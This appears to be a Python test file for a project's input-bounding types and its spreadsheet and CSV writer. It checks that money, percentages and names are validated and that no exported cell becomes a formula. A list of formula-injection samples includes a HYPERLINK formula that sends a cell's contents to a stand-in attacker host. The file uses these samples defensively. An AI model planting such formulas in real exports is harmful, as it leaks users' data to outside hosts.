"""The bounded kinds refuse what is not a number of their kind, and the tabular writer never writes a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sevenc.lib.bounds import HOURS, LEVEL, MONEY, NAME, PERCENT, SEATS, colour_or
from sevenc.lib.errors import DomainError
from sevenc.lib.tabular import FORMULA_STARTS, add_table, new_workbook, workbook_bytes, write_csv


@pytest.mark.parametrize("kind", [MONEY, HOURS, LEVEL, PERCENT, SEATS])
@pytest.mark.parametrize(
    "value", [True, False, "12", float("nan"), float("inf"), float("-inf"), None, [1], {}]
)
def test_booleans_text_nan_and_infinity_are_never_numbers(kind, value):
    with pytest.raises(DomainError) as refused:
        kind.parse(value, field="amount")
    assert refused.value.field == "amount"


def test_money_keeps_to_what_its_column_holds():
    assert MONEY.parse(9_999_999_999.99, field="x") == Decimal("9999999999.99")
    with pytest.raises(DomainError, match="out of range"):
        MONEY.parse(10_000_000_000, field="x")
    with pytest.raises(DomainError, match="more than 2 decimal"):
        MONEY.parse(1.005, field="x")
    with pytest.raises(DomainError, match="out of range"):
        MONEY.parse(-0.01, field="x")


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=0, max_value=100))
def test_every_finite_percentage_from_0_to_100_is_accepted(value):
    assert PERCENT.parse(value, field="target") == value


def test_texts_are_bounded_stripped_and_never_carry_nul():
    assert NAME.clean("  Acme  ", field="name") == "Acme"
    with pytest.raises(DomainError, match="at most 200 characters"):
        NAME.clean("x" * 201, field="name")
    with pytest.raises(DomainError, match="NUL"):
        NAME.clean("a\x00b", field="name")
    with pytest.raises(DomainError, match="required"):
        NAME.clean("   ", field="name", required=True)


def test_colours_are_shown_only_when_they_are_plain_hex():
    assert colour_or("#1F4e79", "#000000") == "#1F4e79"
    for bad in ("navy", "#12345", "red;}", None, 7):
        assert colour_or(bad, "#000000") == "#000000"


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"details")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@settings(deadline=None, max_examples=60)  # writes and reads a real workbook per example
@given(st.lists(st.sampled_from(FORMULAS) | st.text(max_size=30), min_size=1, max_size=6))
def test_no_cell_of_a_workbook_or_csv_is_ever_a_formula(texts):
    book = new_workbook()
    add_table(book.active, [(text or "h", 10) for text in texts], [texts, [1, 2.5, None, *texts]], "navy")
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    for row in csv.reader(io.StringIO(write_csv(texts, [texts]))):
        assert not any(value.startswith(FORMULA_STARTS) for value in row)


def test_numbers_stay_numbers_in_a_workbook():
    book = new_workbook()
    add_table(book.active, [("a", 5), ("b", 5)], [[-5, "-5 is text"]], "#1f4e79")
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    assert sheet["A2"].value == -5
    assert sheet["B2"].value == "'-5 is text"
